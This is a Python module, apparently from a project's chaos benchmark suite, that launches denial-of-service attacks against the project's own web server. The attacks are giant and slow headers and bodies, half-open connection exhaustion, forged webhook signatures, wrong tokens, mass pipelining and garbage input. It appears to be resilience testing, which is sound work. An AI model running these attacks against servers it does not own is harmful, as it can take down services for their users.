"""Attacks that a client without any secret can run against the server. Each attack is a separate process.

python -m benchmarks.chaos.attackers NAME HOST PORT SECONDS PAUSE
"""

from __future__ import annotations

import asyncio
import contextlib
import os
import resource
import sys
import time
from collections.abc import Callable, Coroutine, Mapping
from typing import Any

Attack = Callable[[asyncio.StreamReader, asyncio.StreamWriter], Coroutine[Any, Any, None]]
"""An attack over one connection."""

HALF_OPEN = 600
_HEAD = "POST {path} HTTP/1.1\r\nHost: x\r\nSec-Fetch-Site: same-origin\r\n"
_FALSE = "X-Hub-Signature-256: sha256=" + "0" * 64 + "\r\n"
_CHUNK = b"x" * 65_536

_pause = 0.0
"""Seconds between two writes on a connection; 0 means without a pause."""


class Target:
    """The server's address and the end of the attack."""

    def __init__(self, host: str, port: int, seconds: float) -> None:
        self.host, self.port = host, port
        self.until = time.monotonic() + seconds
        self.done = 0

    @property
    def left(self) -> float:
        return self.until - time.monotonic()

    async def once(self, attack: Attack) -> None:
        """Attack over one connection until the server closes it or the time is up."""
        with contextlib.suppress(OSError, TimeoutError, asyncio.IncompleteReadError):
            async with asyncio.timeout(max(self.left, 0)):
                reader, writer = await asyncio.open_connection(self.host, self.port)
                self.done += 1
                try:
                    await attack(reader, writer)
                finally:
                    writer.transport.abort()

    async def many(self, at_once: int, attack: Attack) -> None:
        """Attack over a constant number of connections."""

        async def again() -> None:
            while self.left > 0:
                await self.once(attack)
                await asyncio.sleep(0.01)

        await asyncio.gather(*(again() for _ in range(at_once)))


def _post(path: str, length: int, *, signature: bool = False, kind: str = "application/json") -> bytes:
    head = _HEAD.format(path=path) + f"Content-Type: {kind}\r\nContent-Length: {length}\r\n"
    return (head + (_FALSE if signature else "") + "\r\n").encode()


async def _send(writer: asyncio.StreamWriter, data: bytes) -> None:
    writer.write(data)
    await writer.drain()
    await asyncio.sleep(_pause)


async def giant_headers(target: Target) -> None:
    """Send one header of 100 MB, on four connections at once."""

    async def attack(_reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        await _send(writer, b"GET / HTTP/1.1\r\nX: ")
        for _ in range(1_600):
            await _send(writer, _CHUNK)

    await target.many(4, attack)


async def slow_headers(target: Target) -> None:
    """Send one header line per second, on a hundred connections."""

    async def attack(_reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        await _send(writer, b"GET / HTTP/1.1\r\n")
        while True:
            await _send(writer, b"X: y\r\n")
            await asyncio.sleep(1)

    await target.many(100, attack)


async def slow_bodies(target: Target) -> None:
    """Send forms, and deliveries with an invalid signature, at one byte per second on a hundred connections."""

    def attack_on(head: bytes) -> Attack:
        async def attack(_reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
            await _send(writer, head)
            while True:
                await _send(writer, b"x")
                await asyncio.sleep(1)

        return attack

    form = _post("/login", 10_000, kind="application/x-www-form-urlencoded")
    delivery = _post("/webhooks/github", 10_000, signature=True)
    await asyncio.gather(target.many(50, attack_on(form)), target.many(50, attack_on(delivery)))


async def half_open(target: Target) -> None:
    """Open more connections than the server has descriptors, and send half a request on each."""

    async def attack(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        await _send(writer, b"POST /webhooks/github HTTP/1.1\r\nHost: x\r\n")
        await reader.read()

    await target.many(HALF_OPEN, attack)


async def large_bodies(target: Target) -> None:
    """Send bodies of 25 MB, unsigned and with an invalid signature, forty at a time."""

    def attack_on(head: bytes) -> Attack:
        async def attack(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
            await _send(writer, head)
            for _ in range(400):
                await _send(writer, _CHUNK)
            await reader.read()

        return attack

    unsigned, false = (_post("/webhooks/github", 26_214_400, signature=given) for given in (False, True))
    await asyncio.gather(target.many(20, attack_on(unsigned)), target.many(20, attack_on(false)))


async def wrong_tokens(target: Target) -> None:
    """Send wrong bearer tokens, and wrong tokens in the form, on eight keep-alive connections."""
    bearer = b"GET /runs HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer wrong\r\n\r\n"
    form = _post("/login", 11, kind="application/x-www-form-urlencoded") + b"token=wrong"

    async def attack(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        while True:
            for request in (bearer, form):
                await _send(writer, request)
                await _answer(reader)

    await target.many(8, attack)


async def bad_logins(target: Target) -> None:
    """Begin logins, and complete logins without a code, on four keep-alive connections."""
    paths = ("/login", "/login/github", "/login/github/callback?code=a&state=b", "/logout", "/readyz", "/api/v1/runs/x")

    async def attack(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        while True:
            for path in paths:
                await _send(writer, f"GET {path} HTTP/1.1\r\nHost: x\r\nAccept: text/html\r\n\r\n".encode())
                await _answer(reader)

    await target.many(4, attack)


async def pipelining(target: Target) -> None:
    """Send ten thousand requests at once without reading a response."""

    async def attack(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        await _send(writer, b"GET /login HTTP/1.1\r\nHost: x\r\n\r\n" * 10_000)
        await reader.read(1)
        await asyncio.sleep(1)

    await target.many(8, attack)


async def garbage(target: Target) -> None:
    """Send data that is not HTTP, and requests with a thousand headers."""

    async def attack(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        await _send(
            writer, b"\x16\x03\x01\x02\x00\x01\x00" if target.done % 2 else b"GET / HTTP/1.1\r\n" + b"a:b\r\n" * 1_000
        )
        await reader.read()

    await target.many(8, attack)


async def _answer(reader: asyncio.StreamReader) -> None:
    """Read a response that has a Content-Length."""
    head = await reader.readuntil(b"\r\n\r\n")
    length = [line for line in head.lower().split(b"\r\n") if line.startswith(b"content-length:")]
    await reader.readexactly(int(length[0].split(b":")[1]) if length else 0)


ATTACKS: Mapping[str, Callable[[Target], Coroutine[Any, Any, None]]] = {
    attack.__name__: attack
    for attack in (
        *(giant_headers, slow_headers, slow_bodies, half_open, large_bodies),
        *(wrong_tokens, bad_logins, pipelining, garbage),
    )
}


def main() -> None:
    """Run the attack and print the number of connections."""
    global _pause  # noqa: PLW0603  one attack a process
    _, name, host, port, seconds, pause = sys.argv
    _pause = float(pause)
    os.nice(10)  # real attackers use machines of their own
    _, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (min(hard, 4_096), hard))
    target = Target(host, int(port), float(seconds))
    asyncio.run(ATTACKS[name](target))
    print(target.done)


if __name__ == "__main__":
    main()
